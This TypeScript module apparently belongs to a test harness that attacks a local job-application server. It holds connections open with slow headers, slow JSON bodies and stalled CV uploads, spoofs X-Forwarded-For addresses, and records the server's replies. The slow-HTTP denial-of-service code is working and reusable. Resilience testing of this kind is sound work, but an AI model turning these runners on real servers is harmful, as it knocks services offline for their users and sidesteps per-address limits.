import { once } from 'node:events';
import { openConnection } from './raw-call';
import type { AttackRunner, AttackContext } from './stranger';
import { recordAnswer } from '../answer-log';
import { strangeAddress } from '../../people/site-for';

type Dawdler = {
  readonly name: string;
  readonly connections: number;
  /** Bytes sent at once. */
  readonly beginning: (number: number) => string;
  /** Bytes sent every second after that; empty for an idle connection. */
  readonly drop: string;
};

const everyMilliseconds = 1000;

/** Holds connections open, and reopens them when the server ends them. */
const dawdling =
  (dawdler: Dawdler): AttackRunner =>
  (streets) => {
    const numbers = Array.from({ length: dawdler.connections }, (_none, number) => number);
    return Promise.all(numbers.map((number) => holdOne(streets, dawdler, number)));
  };

async function holdOne(
  { port, pace, over, answerLog }: AttackContext,
  { name, beginning, drop }: Dawdler,
  number: number,
) {
  while (!over.aborted) {
    await pace();
    const socket = openConnection(port);
    const end = () => socket.destroy();
    over.addEventListener('abort', end, { once: true });
    let answer = '';
    socket.on('data', (part: Buffer) => (answer += part.toString('latin1')));
    socket.write(beginning(number));
    const dripping = setInterval(() => drop && socket.write(drop), everyMilliseconds);
    await once(socket, 'close');
    clearInterval(dripping);
    over.removeEventListener('abort', end);
    const status = /^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1];
    recordAnswer(answerLog, name, {
      ended: status ?? (over.aborted ? 'hasta el final' : 'cortada'),
    });
  }
}

const head = (number: number, [line = '', ...lines]: readonly string[]) =>
  [line, 'Host: localhost', `X-Forwarded-For: ${strangeAddress(number)}`, ...lines].join('\r\n');

const file =
  '\r\n\r\n--b\r\nContent-Disposition: form-data; name="curriculum"; filename="a.pdf"\r\n\r\n%PDF-1.4';

/**
 * Each upload has the proof of a checked e-mail, because without it the server refuses uploads
 * unread.
 */
export const idleUploads = (cookies: readonly string[]) =>
  dawdling({
    name: 'subidas inmóviles',
    connections: cookies.length,
    beginning: (number) =>
      head(number, [
        'POST /api/aplicantes-ofertas/upload-curriculum HTTP/1.1',
        `Cookie: ${cookies[number]}`,
        'Content-Type: multipart/form-data; boundary=b',
        'Content-Length: 2000000',
      ]) + file,
    drop: '',
  });

export const slowStrangers: readonly AttackRunner[] = [
  dawdling({
    name: 'cabeceras lentas',
    connections: 30,
    beginning: (number) => head(number, ['GET /pagina-principal HTTP/1.1']),
    drop: '\r\nX-a: b',
  }),
  dawdling({
    name: 'cuerpos lentos',
    connections: 30,
    beginning: (number) =>
      `${head(number, [
        'POST /api/contacto HTTP/1.1',
        'Content-Type: application/json',
        'Content-Length: 2000',
      ])}\r\n\r\n{`,
    drop: ' ',
  }),
];
